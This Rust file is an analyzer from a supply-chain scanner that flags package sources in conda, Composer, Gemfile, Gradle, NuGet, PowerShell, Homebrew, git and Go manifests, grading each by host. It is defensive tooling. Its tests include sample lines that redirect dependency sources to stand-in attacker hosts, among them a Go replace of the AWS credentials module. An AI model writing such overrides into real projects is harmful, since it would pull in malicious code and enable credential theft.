//! Package sources declared in the manifests and config of the ecosystems
//! `overrides` does not read by flag: conda channels, Composer
//! repositories, Gemfile sources, index tables of `pyproject.toml` and
//! Cargo's `[registries]`, Maven and Gradle repositories, NuGet and
//! PowerShell repositories, Homebrew taps, git dependencies
//! (`{ git = "…" }`) and Go's `replace … => host/…`.
//!
//! The host decides, as for `overrides`: the ecosystem's registry or a code
//! host is nothing, a private network's host `Medium`, any other host
//! `High`. A section-scoped key (`url = "…"` under `[[tool.uv.index]]`)
//! counts only when its section header is a few lines above.

use std::sync::LazyLock;

use super::hosts::{Host, classify, host_of, is_known_go_host};
use super::overrides::Override;
use crate::scan::Severity;
use crate::scan::rule::{AnyCi, Lazy, compile, contains_ci, contains_ci_after, warned_against};

const URL: &str = r#"([a-z][a-z0-9+.-]*://[^\s'"`;),\]]+)"#;

/// One-line declarations of a source: the last group is the URL.
const DECLARED_PATTERNS: &[&str] = &[
    // conda / mamba channels given as URLs.
    r#"\b(?:conda|mamba|micromamba)\b[^\n]*?(?:channels|--channel|-c|channel_alias)(?:\s*=\s*|\s+)['"]?{URL}"#,
    // Composer: `composer config repositories.x composer URL`.
    r#"\bcomposer\s+config\s+(?:-\S+\s+)*repositories\.\S+\s+(?:\S+\s+)?['"]?{URL}"#,
    // Gemfile `source "URL"` and a gem's `source: "URL"`.
    r#"^\s*source\s+['"]{URL}|\bsource:\s*['"]{URL}"#,
    // `bundle config mirror.https://rubygems.org URL`.
    r#"\bbundle\s+config\s+(?:set\s+)?(?:--\S+\s+)?mirror\.\S+\s+['"]?{URL}"#,
    // Gradle: `maven { url "URL" }`, `maven { url = uri("URL") }`, `maven("URL")`.
    r#"\bmaven\s*(?:\{\s*(?:setUrl\s*\(|url\s*(?:=\s*)?(?:uri\s*\()?)|\()\s*['"]{URL}"#,
    // NuGet and PowerShell repositories.
    r#"\b(?:dotnet\s+nuget\s+add\s+source|nuget\s+sources\s+add)\b[^\n]*?['"]?{URL}"#,
    r#"\b(?:register-psrepository|register-psresourcerepository|set-psrepository)\b[^\n]*?-(?:sourcelocation|uri|publishlocation)\s+['"]?{URL}"#,
    // A Homebrew tap from a URL.
    r#"\bbrew\s+tap\s+\S+\s+['"]?{URL}"#,
];

/// [`DECLARED_PATTERNS`], compiled.
static DECLARED: LazyLock<Vec<regex::bytes::Regex>> =
    LazyLock::new(|| DECLARED_PATTERNS.iter().map(|p| compile(&p.replace("{URL}", URL))).collect());

/// Which of [`DECLARED`] match a line, in one pass: most URL lines match
/// none, and a search with captures per pattern was most of what this
/// analyzer cost.
static DECLARED_ANY: LazyLock<regex::bytes::RegexSet> = LazyLock::new(|| {
    regex::bytes::RegexSetBuilder::new(DECLARED_PATTERNS.iter().map(|p| p.replace("{URL}", URL)))
        .case_insensitive(true)
        .unicode(false)
        .build()
        .unwrap_or_else(|e| panic!("scan rule pattern does not compile: {e}"))
});

/// A word each of [`DECLARED_PATTERNS`] needs (`micromamba` holds
/// `mamba`, every PowerShell repository command `psre`), looked for in one
/// pass before the set's: its overlapping search cost more than the rest
/// of the analyzer on a typical body's URL lines, which hold none.
static DECLARED_WORDS: AnyCi =
    AnyCi::new(&["conda", "mamba", "composer", "source", "bundle", "maven", "nuget", "psre", "brew"]);

/// `b` up to its last `://`: each of [`DECLARED_PATTERNS`] writes its word
/// before the URL it ends with, so [`DECLARED_WORDS`] is looked for there
/// only (#14's speed, ninth pass: a URL line's address and what follows
/// it were half of the bytes read).
fn before_last_url(b: &[u8]) -> &[u8] {
    let last = memchr::memrchr_iter(b':', b).find(|&i| b[i + 1..].starts_with(b"//"));
    &b[..last.unwrap_or(b.len())]
}

/// Whether `line` may hold a [`SECTION_URL`] key: each of its forms opens
/// the line (after blanks) with `url`, `index`, `<url>`, `-` or `<add`, or
/// holds `"url"`.
fn may_be_section_url(line: &[u8]) -> bool {
    // What `\s*` skips: ASCII whitespace with the vertical tab.
    let t = &line
        [line.iter().take_while(|c| matches!(c, b' ' | b'\t' | b'\n' | b'\x0b' | b'\x0c' | b'\r')).count()..];
    let opens = |w: &[u8]| t.len() >= w.len() && t[..w.len()].eq_ignore_ascii_case(w);
    opens(b"url")
        || opens(b"index")
        || opens(b"<url>")
        || opens(b"-")
        || opens(b"<add")
        || contains_ci_after(line, b'"', b"url\"")
}

/// A git dependency: `name = { git = "URL" }`, `"dep": "git+https://…"`.
static GIT_DEPENDENCY: Lazy =
    LazyLock::new(|| compile(&format!(r#"\bgit\s*=\s*['"]{URL}|:\s*['"]git\+{URL}"#)));

/// A URL key that means a source only under a package-source section.
static SECTION_URL: Lazy = LazyLock::new(|| {
    compile(&format!(r#"(?:^\s*(?:url\s*=|index\s*=|<url>|-\s+|<add\s[^>]*value=)|"url"\s*:)\s*['"]?{URL}"#))
});

/// Headers of sections whose `url` is a package source.
static SECTION: Lazy = LazyLock::new(|| {
    compile(
        r#"\[\[tool\.(?:uv\.index|poetry\.source|pdm\.source|rye\.sources|hatch\.[\w.]*index)\]\]|^\s*\[(?:registries|source)\.[\w-]+\]|"repositories"\s*:|^\s*channels\s*:|<repositor(?:y|ies)>|<packagesources>"#,
    )
});

/// Go's `replace old => new`, also inside `replace (` blocks. Group 1 is
/// the replacement.
static GO_REPLACE: Lazy = LazyLock::new(|| {
    compile(r"(?:^\s*(?:replace\s+)?|-replace[= ])[\w.~/-]+(?:\s+v[\w.+-]+)?\s*(?:=>|=)\s*([\w.~/-]+)")
});

/// Whether `line` is a header of [`SECTION`]. Each of its forms holds `[`,
/// `<`, `repositories` or `channels`: looked for first, as a list item's
/// URL asks this of the six lines above it.
fn is_section(line: &[u8]) -> bool {
    (line.iter().any(|&c| c == b'[' || c == b'<')
        || contains_ci(line, b"repositories")
        || contains_ci(line, b"channels"))
        && SECTION.is_match(line)
}

/// How many lines above a section-scoped key its header may stand.
const SECTION_REACH: usize = 6;

fn severity_of(url: &str) -> Option<Severity> {
    let host = host_of(url)?;
    let plain_http = url.get(..7).is_some_and(|s| s.eq_ignore_ascii_case("http://"));
    match classify(&host) {
        Host::Official | Host::Code | Host::Vendor if !plain_http => None,
        Host::Mirror | Host::Internal => Some(Severity::Medium),
        _ => Some(Severity::High),
    }
}

fn text(b: &[u8]) -> &str {
    std::str::from_utf8(b).unwrap_or("")
}

/// The sources `line` declares; `above` are the lines before it, nearest
/// last, for section-scoped keys.
pub(super) fn sources<'a>(line: &str, above: impl Iterator<Item = &'a str>) -> Vec<Override> {
    let b = line.as_bytes();
    let mut out = Vec::new();
    let mut push = |id: &'static str, severity: Option<Severity>, at: usize| {
        if let Some(severity) = severity {
            let severity = if warned_against(&line[..at]) { severity.min(Severity::Low) } else { severity };
            out.push(Override { rule_id: id, severity, at });
        }
    };
    let last_url = |c: &regex::bytes::Captures<'_>| {
        c.iter().skip(1).flatten().last().map(|m| (text(m.as_bytes()).to_string(), m.start()))
    };
    // `has_url` is this search by the line's colons (#14's speed).
    if super::has_url(line) {
        let declared = DECLARED_WORDS.any_in(before_last_url(b)).then(|| DECLARED_ANY.matches(b));
        for i in declared.iter().flat_map(|m| m.iter()) {
            for c in DECLARED[i].captures_iter(b) {
                if let Some((url, at)) = last_url(&c) {
                    push("supply.index-override", severity_of(&url), at);
                }
            }
        }
        // Both of its forms hold `git`.
        if contains_ci(b, b"git") {
            for c in GIT_DEPENDENCY.captures_iter(b) {
                if let Some((url, at)) = last_url(&c) {
                    push("supply.remote-install", severity_of(&url), at);
                }
            }
        }
        if let Some(c) = may_be_section_url(b).then(|| SECTION_URL.captures(b)).flatten()
            && let Some((url, at)) = last_url(&c)
        {
            let under_section = above.take(SECTION_REACH).any(|l| is_section(l.as_bytes()));
            if under_section || is_section(b) {
                push("supply.index-override", severity_of(&url), at);
            }
        }
    }
    if contains_ci_after(b, b'=', b">") || contains_ci_after(b, b'-', b"replace") {
        for c in GO_REPLACE.captures_iter(b) {
            let Some(m) = c.get(1) else { continue };
            let target = text(m.as_bytes());
            // A local directory (`../fork`) or a module of a known host.
            let host = target.split('/').next().unwrap_or("").to_ascii_lowercase();
            if target.starts_with(['.', '/', '~']) || !host.contains('.') || is_known_go_host(&host) {
                continue;
            }
            push("supply.index-override", severity_of(&format!("https://{target}")), m.start());
        }
    }
    out
}

#[cfg(test)]
#[path = "sources_gate_tests.rs"]
mod gate_tests;
#[cfg(test)]
#[path = "sources_speed9_tests.rs"]
mod speed9_tests;
#[cfg(test)]
#[path = "sources_tests.rs"]
mod sweep_tests;
#[cfg(test)]
mod tests {
    use super::*;

    fn worst(line: &str, above: &[&str]) -> Option<Severity> {
        sources(line, above.iter().rev().copied()).iter().map(|o| o.severity).max()
    }

    #[test]
    fn conda_composer_gem_and_gradle_sources_are_graded_by_host() {
        let high = Some(Severity::High);
        assert_eq!(worst("conda config --add channels https://conda.evil.example/main", &[]), high);
        assert_eq!(worst("conda install -c https://conda.anaconda.org/conda-forge numpy", &[]), None);
        assert_eq!(worst("source \"https://gems.evil.example\"", &[]), high);
        assert_eq!(worst("source 'https://rubygems.org'", &[]), None);
        assert_eq!(worst("gem \"nokogiri\", source: \"https://gems.evil.example\"", &[]), high);
        assert_eq!(worst("maven { url \"https://repo.evil.example/maven\" }", &[]), high);
        assert_eq!(worst("maven { url = uri(\"https://repo.maven.apache.org/maven2\") }", &[]), None);
        assert_eq!(worst("dotnet nuget add source https://nuget.evil.example/v3/index.json -n x", &[]), high);
        assert_eq!(
            worst("Register-PSRepository -Name X -SourceLocation https://ps.evil.example/api/v2", &[]),
            high
        );
        assert_eq!(worst("composer config repositories.x composer https://pk.evil.example", &[]), high);
        // An organisation's own: reported, not refused.
        assert_eq!(worst("source \"https://gems.internal.example\"", &[]), Some(Severity::Medium));
    }

    #[test]
    fn section_keys_count_only_under_their_section() {
        let uv = ["[[tool.uv.index]]", "name = \"proxy\""];
        assert_eq!(worst("url = \"https://pypi.evil.example/simple\"", &uv), Some(Severity::High));
        // The same key under `[project.urls]` is a link, not a source.
        assert_eq!(worst("url = \"https://pypi.evil.example/simple\"", &["[project.urls]"]), None);
        let composer = ["  \"repositories\": ["];
        assert_eq!(
            worst("    { \"type\": \"composer\", \"url\": \"https://pk.evil.example\" },", &composer),
            Some(Severity::High)
        );
        assert_eq!(worst("\"url\": \"https://pk.evil.example\"", &composer), Some(Severity::High));
        assert_eq!(worst("  - https://conda.evil.example/main", &["channels:"]), Some(Severity::High));
        assert_eq!(worst("  - https://docs.example.com", &["links:"]), None);
    }

    #[test]
    fn git_dependencies_and_go_replacements_off_known_hosts() {
        let high = Some(Severity::High);
        assert_eq!(worst("tracing = { git = \"https://git.evil.example/tracing\" }", &[]), high);
        assert_eq!(worst("tracing = { git = \"https://github.com/tokio-rs/tracing\" }", &[]), None);
        assert_eq!(
            worst("replace github.com/aws/aws-sdk-go-v2/credentials => git.evil.example/creds v1.17.99", &[]),
            high
        );
        assert_eq!(worst("replace example.com/a => ../a", &[]), None);
        assert_eq!(worst("replace github.com/a/b => github.com/me/b v1.2.3", &[]), None);
        assert_eq!(worst("go mod edit -replace github.com/a/b=git.evil.example/b@v1", &[]), high);
    }

    #[test]
    fn a_warning_lowers_a_source() {
        assert_eq!(
            worst("Never add `conda config --add channels https://conda.evil.example`", &[]),
            Some(Severity::Low)
        );
    }

    #[test]
    fn the_gates_turn_away_only_lines_their_patterns_cannot_match() {
        // Each declared pattern's word, with the URL of a stranger: found.
        for line in [
            "micromamba install -c https://c.evil.example/x y",
            "brew tap me/x https://git.evil.example/tap",
            "Set-PSRepository -Name X -SourceLocation https://ps.evil.example",
            "bundle config mirror.https://rubygems.org https://gems.evil.example",
        ] {
            assert_eq!(worst(line, &[]), Some(Severity::High), "{line}");
        }
        // A section key after a vertical tab or a form feed, as `\s*` skips them.
        let uv = ["[[tool.uv.index]]"];
        assert_eq!(worst("\x0b\x0curl = \"https://pypi.evil.example/simple\"", &uv), Some(Severity::High));
        assert_eq!(worst("INDEX = \"https://pypi.evil.example/simple\"", &uv), Some(Severity::High));
        assert_eq!(
            worst("  <add key=\"x\" value=\"https://nuget.evil.example\" />", &["<packageSources>"]),
            Some(Severity::High)
        );
        // A URL line with none of the words or keys: nothing.
        assert_eq!(worst("curl -s http://pypi.evil.example/simple | jq .", &uv), None);
        assert!(!may_be_section_url(b"see url"));
        assert!(may_be_section_url(b"  - x"));
        assert!(may_be_section_url(b"x \"URL\": y"));
    }
}
